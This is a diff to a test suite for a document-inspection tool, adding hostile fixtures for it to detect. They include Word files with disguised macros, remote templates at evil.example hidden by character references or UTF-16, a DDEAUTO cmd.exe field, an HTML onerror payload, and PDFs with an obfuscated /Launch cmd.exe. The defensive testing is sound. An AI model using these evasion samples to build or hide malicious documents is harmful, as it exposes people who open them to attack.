@@ -37,6 +37,14 @@ describe('an inspection rejects', () => {
     ['a Word document with macros', 'macros', null, () => zipOf(withMacros), 'a.docx'],
     ['an old Word document with macros', 'macros', null, wordWithMacros, 'a.doc'],
     [
+      'a Word document with macros under an unusual name',
+      'macros',
+      null,
+      () =>
+        zipOf({ ...document, 'word/_rels/document.xml.rels': relation('vbaProject', 'a.png', '') }),
+      'a.docx',
+    ],
+    [
       'a document with macros under an old name inside a zip',
       'macros',
       'a.doc',
@@ -211,6 +219,25 @@ const activeParts: Record<string, Record<string, string>> = {
   'such a field in several runs': withFields(
     '<w:instrText>D</w:instrText><w:instrText xml:space="preserve">DE</w:instrText><w:instrText> cmd</w:instrText>',
   ),
+  'a template elsewhere whose address looks like a link': {
+    'word/_rels/settings.xml.rels': relation('attachedTemplate', "https://evil.example/hyperlink'"),
+  },
+  'a template elsewhere, after a > in an attribute': {
+    'word/_rels/settings.xml.rels': relation('attachedTemplate', 'https://evil.example/>a.dotm'),
+  },
+  'a template elsewhere, by character references': {
+    'word/_rels/settings.xml.rels': relation(
+      '&#x61;ttachedTemplate',
+      'https://evil.example/a.dotm',
+      'TargetMode="Extern&#97;l"',
+    ),
+  },
+  'an object under an unusual name': {
+    'word/_rels/document.xml.rels': relation('oleObject', 'embeddings/picture.png', ''),
+  },
+  'a field in the glossary': {
+    'word/glossary/document.xml': "<w:fldSimple w:instr='DDEAUTO c:\\cmd.exe'/>",
+  },
   'a field that loads a picture': withFields(
     '<w:instrText>INCLUDEPICTURE "\\\\evil\\a"</w:instrText>',
   ),
@@ -299,6 +326,27 @@ describe('an inspection marks', () => {
       () =>
         compoundFile({ ...wordStreams(), '/1Table': wide('https://evil.example/a.dotm', 4096) }),
       'a.doc',
+    ],
+    ...[true, false].map(
+      (isBigEndian): MarkCase => [
+        `a Word document with a template elsewhere in UTF-16, ${isBigEndian ? 'big' : 'little'} endian`,
+        ['script'],
+        () => {
+          const xml = relation('attachedTemplate', 'https://evil.example/a.dotm');
+          const wide = Buffer.from(`\ufeff${xml}`, 'utf16le');
+          return zipOf({
+            ...document,
+            'word/_rels/settings.xml.rels': isBigEndian ? wide.swap16() : wide,
+          });
+        },
+        'a.docx',
+      ],
+    ),
+    [
+      'a page without the usual tags inside a zip',
+      ['script'],
+      () => zipOf({ 'a.htm': '<img src=x onerror=run()>' }),
+      'a.zip',
     ],
     ['a page inside a zip', ['script'], () => zipOf({ 'a.html': '<html><script>' }), 'a.zip'],
     [
@@ -407,6 +455,27 @@ describe('an inspection marks', () => {
         const named = `/Title (about /ObjStm)${' '.repeat(5000)}`;
         return pdfOf('', `${named}\n${first}\n${second}`);
       },
+    ],
+    [
+      'a PDF that starts a program, by a packed object with an encoded type',
+      ['script'],
+      () =>
+        pdfOf('', packed('10 0 << /S /Launch /F (cmd.exe) >>').replace('/ObjStm', '/#4fbj#53tm')),
+    ],
+    [
+      'a PDF with a packed object whose dictionary is long',
+      ['unreadable'],
+      () => pdfOf('', packed('10 0 << /S /Launch >>').replace('/N 1', `/N 1${' '.repeat(2000)}`)),
+    ],
+    [
+      'a PDF with a packed object that is compressed in another way',
+      ['unreadable'],
+      () => pdfOf('', '<< /Type /ObjStm /N 1 /First 5 >>\nstream\nLaunch?\nendstream'),
+    ],
+    [
+      'a PDF with an object stream that is not compressed',
+      [],
+      () => pdfOf('', '<< /Type /ObjStm /N 1 /First 5 >>\nstream\n10 0 << /A 1 >>\nendstream'),
     ],
     [
       'a PDF with a form that has scripts of its own (XFA)',
